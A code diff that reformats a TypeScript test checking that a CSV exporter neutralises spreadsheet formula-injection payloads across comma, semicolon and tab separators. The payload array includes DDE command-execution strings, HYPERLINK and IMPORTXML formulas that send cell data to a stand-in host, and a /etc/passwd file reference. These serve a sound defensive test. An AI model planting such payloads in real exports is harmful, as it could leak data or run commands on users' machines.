@@ -15,8 +15,18 @@ const columns: Column<Row>[] = [
 ]
 
 const attacks = [
-  '=1+1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example?x="&A1;"Click")', '=IMPORTXML(CONCAT("http://evil.example/";A1);"//a")',
-  '+1+cmd|\'/C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=DDE("cmd";"/C calc";"!A0")A0', '=\'file:///etc/passwd\'#$passwd.A1', '-1', '\t=1', '\r=1',
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?x="&A1;"Click")',
+  '=IMPORTXML(CONCAT("http://evil.example/";A1);"//a")',
+  "+1+cmd|'/C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '=DDE("cmd";"/C calc";"!A0")A0',
+  "='file:///etc/passwd'#$passwd.A1",
+  '-1',
+  '\t=1',
+  '\r=1',
 ]
 
 /** Ways to bring an attack to the beginning of a cell: by what spreadsheets skip, and by ends of cells in the middle. */
@@ -61,11 +71,21 @@ promise(19, { short: {}, full: {} }, async () => {
   const wrong = payloads.flatMap((payload) => {
     const text = csv(columns, [{ id: payload, title: payload, counterparty: payload }])
     const whole = cellsOf(text, ',').slice(3)
-    const readings = [',', ';', '\t'].flatMap((separator) => cellsOf(text, separator).filter((cell) => formula.test(cell)).map((cell) => ({ separator, cell })))
+    const readings = [',', ';', '\t'].flatMap((separator) =>
+      cellsOf(text, separator)
+        .filter((cell) => formula.test(cell))
+        .map((cell) => ({ separator, cell })),
+    )
     return [
       ...(whole.length === 3 ? [] : [`${JSON.stringify(payload)} makes ${whole.length} cells of 3.`]),
-      ...readings.map(({ separator, cell }) => `${JSON.stringify(payload)}, read by ${JSON.stringify(separator)}: ${JSON.stringify(cell)}`),
+      ...readings.map(
+        ({ separator, cell }) =>
+          `${JSON.stringify(payload)}, read by ${JSON.stringify(separator)}: ${JSON.stringify(cell)}`,
+      ),
     ]
   })
-  return { figure: `${payloads.length} payloads in three cells each, read by commas, semicolons and tabs: ${wrong.length} formulas`, wrong: wrong.slice(0, 20) }
+  return {
+    figure: `${payloads.length} payloads in three cells each, read by commas, semicolons and tabs: ${wrong.length} formulas`,
+    wrong: wrong.slice(0, 20),
+  }
 })
